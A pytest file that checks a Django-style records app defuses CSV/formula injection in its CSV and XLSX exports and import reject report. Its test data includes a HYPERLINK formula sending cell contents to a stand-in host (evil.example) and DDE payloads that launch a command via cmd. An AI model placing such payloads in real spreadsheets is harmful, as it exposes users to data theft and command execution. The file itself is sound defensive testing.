"""Exports and the import's reject report write formula-looking text as text (CSV injection).

A name, address, owner or legal representative typed as ``=HYPERLINK(...)``, ``+cmd|...``,
``-2+3`` or ``@SUM(...)`` must come out with an apostrophe in front in CSV and in XLSX (where
openpyxl would otherwise store a formula), as the audit export already does.
"""

import csv
import io

import openpyxl
import pytest

from gridgov.basedata import actions, exporters, importers
from gridgov.basedata.models import House, Organisation, Person
from gridgov.core.spreadsheet import FORMULA_START, safe_cell

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


def _rows(response, fmt):
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def _assert_no_formula(rows):
    for row in rows[1:]:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_START), value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_person_export_neutralises_formulas(grid_worker, gulou_grid, id_number, fmt):
    person = actions.create_person(actor=None, grid=gulou_grid, name=LINK,
                                   id_number=id_number(), address=CMD)
    response = exporters.export("people", Person.objects.filter(pk=person.pk),
                                user=grid_worker, fmt=fmt)
    rows = _rows(response, fmt)
    assert len(rows) == 2
    assert rows[1][0] == "'" + LINK
    assert rows[1][6] == "'" + CMD
    _assert_no_formula(rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_house_and_organisation_exports_neutralise_formulas(grid_worker, gulou_grid,
                                                            uscc_code, fmt):
    house = actions.create_house(actor=None, grid=gulou_grid, address=MINUS, room="101",
                                 owner_name=SUM)
    org = actions.create_organisation(actor=None, grid=gulou_grid, name="测试公司",
                                      uscc=uscc_code(), legal_representative=LINK,
                                      address="\t" + CMD)
    rows = _rows(exporters.export("houses", House.objects.filter(pk=house.pk),
                                  user=grid_worker, fmt=fmt), fmt)
    assert rows[1][0] == "'" + MINUS and rows[1][4] == "'" + SUM
    _assert_no_formula(rows)
    rows = _rows(exporters.export("organisations", Organisation.objects.filter(pk=org.pk),
                                  user=grid_worker, fmt=fmt), fmt)
    assert rows[1][3] == "'" + LINK
    assert rows[1][4].lstrip("'").strip() == CMD  # the address, defused or stripped on save
    _assert_no_formula(rows)


def test_numbers_stay_numbers_in_xlsx(grid_worker, building):
    response = exporters.export("buildings", type(building).objects.filter(pk=building.pk),
                                user=grid_worker, fmt="xlsx")
    rows = _rows(response, "xlsx")
    assert rows[1][2] == 6 and isinstance(rows[1][4], float)


def test_reject_report_neutralises_formulas(grid_worker, gulou_grid):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["姓名", "身份证号", "户籍类型", "手机号", "网格编码", "居住地址", SUM])
    writer.writerow([LINK, "123", "户籍人口", MINUS, gulou_grid.code, CMD, "x"])
    batch = importers.run_import("people", out.getvalue().encode("utf-8-sig"), "people.csv",
                                 actor=grid_worker)
    assert batch.rejected_rows == 1
    report = list(csv.reader(io.StringIO(importers.report_csv(batch))))
    assert report[0][-2] == "'" + SUM  # a header typed by the uploader
    row = dict(zip(report[0], report[1], strict=True))
    assert row["姓名"] == "'" + LINK
    assert row["手机号"] == "'" + MINUS
    assert row["居住地址"] == "'" + CMD
    for cells in report:
        for value in cells:
            assert not value.startswith(FORMULA_START), value


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("张三", "张三"), ("a=b", "a=b"), ("", ""), (None, None), (6, 6),
    (-1.5, -1.5),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
